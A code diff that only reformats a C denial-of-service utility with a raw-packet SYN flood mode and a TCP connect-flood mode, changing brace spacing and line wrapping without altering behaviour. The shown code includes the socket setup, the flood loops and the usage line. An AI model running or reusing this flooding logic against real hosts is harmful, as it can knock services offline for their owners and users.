@@ -107,7 +107,7 @@ static int syn_flood(char **a)
 {
 	uint8_t smac[6], dmac[6], frames[BATCH][FRAME_LEN];
 	struct in_addr src, dst;
-	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_halen = 6 };
+	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_halen = 6};
 	struct mmsghdr msgs[BATCH];
 	struct iovec iov[BATCH];
 	unsigned dport = (unsigned)atoi(a[5]);
@@ -136,9 +136,11 @@ static int syn_flood(char **a)
 	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
 	memset(msgs, 0, sizeof(msgs));
 	for (int i = 0; i < BATCH; i++) {
-		iov[i] = (struct iovec){ .iov_base = frames[i], .iov_len = FRAME_LEN };
-		msgs[i].msg_hdr = (struct msghdr){ .msg_name = &ll, .msg_namelen = sizeof(ll),
-						   .msg_iov = &iov[i], .msg_iovlen = 1 };
+		iov[i] = (struct iovec){.iov_base = frames[i], .iov_len = FRAME_LEN};
+		msgs[i].msg_hdr = (struct msghdr){.msg_name = &ll,
+						  .msg_namelen = sizeof(ll),
+						  .msg_iov = &iov[i],
+						  .msg_iovlen = 1};
 	}
 	end = now_s() + secs;
 	while (now_s() < end) {
@@ -160,35 +162,37 @@ static int syn_flood(char **a)
 
 static int connect_flood(char **a)
 {
-	struct sockaddr_in s = { .sin_family = AF_INET }, d = { .sin_family = AF_INET };
+	struct sockaddr_in s = {.sin_family = AF_INET}, d = {.sin_family = AF_INET};
 	struct pollfd pfd[256];
 	double secs = atof(a[3]), end;
 	uint64_t done = 0;
 
-	if (inet_pton(AF_INET, a[0], &s.sin_addr) != 1 || inet_pton(AF_INET, a[1], &d.sin_addr) != 1 ||
-	    !(secs > 0)) {
+	if (inet_pton(AF_INET, a[0], &s.sin_addr) != 1 ||
+	    inet_pton(AF_INET, a[1], &d.sin_addr) != 1 || !(secs > 0)) {
 		fprintf(stderr, "synflood: bad arguments\n");
 		return 2;
 	}
 	d.sin_port = htons((uint16_t)atoi(a[2]));
 	for (int i = 0; i < 256; i++)
-		pfd[i] = (struct pollfd){ .fd = -1 };
+		pfd[i] = (struct pollfd){.fd = -1};
 	end = now_s() + secs;
 	while (now_s() < end) {
 		for (int i = 0; i < 256; i++) {
 			if (pfd[i].fd >= 0)
 				continue;
 			int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
-			struct linger lg = { .l_onoff = 1, .l_linger = 0 }; /* RST: no TIME_WAIT pile */
+			struct linger lg = {.l_onoff = 1,
+					    .l_linger = 0}; /* RST: no TIME_WAIT pile */
 			if (fd < 0)
 				break;
 			setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
 			if (bind(fd, (struct sockaddr *)&s, sizeof(s)) ||
-			    (connect(fd, (struct sockaddr *)&d, sizeof(d)) && errno != EINPROGRESS)) {
+			    (connect(fd, (struct sockaddr *)&d, sizeof(d)) &&
+			     errno != EINPROGRESS)) {
 				close(fd);
 				continue;
 			}
-			pfd[i] = (struct pollfd){ .fd = fd, .events = POLLOUT };
+			pfd[i] = (struct pollfd){.fd = fd, .events = POLLOUT};
 		}
 		if (poll(pfd, 256, 10) < 0)
 			break;
@@ -212,8 +216,9 @@ int main(int argc, char **argv)
 		return syn_flood(argv + 2);
 	if (argc == 6 && !strcmp(argv[1], "connect"))
 		return connect_flood(argv + 2);
-	fprintf(stderr, "usage: %s syn IFACE SRC_MAC DST_MAC SRC_IP DST_IP DPORT SECONDS\n"
-			"       %s connect SRC_IP DST_IP DPORT SECONDS\n",
+	fprintf(stderr,
+		"usage: %s syn IFACE SRC_MAC DST_MAC SRC_IP DST_IP DPORT SECONDS\n"
+		"       %s connect SRC_IP DST_IP DPORT SECONDS\n",
 		argv[0], argv[0]);
 	return 2;
 }
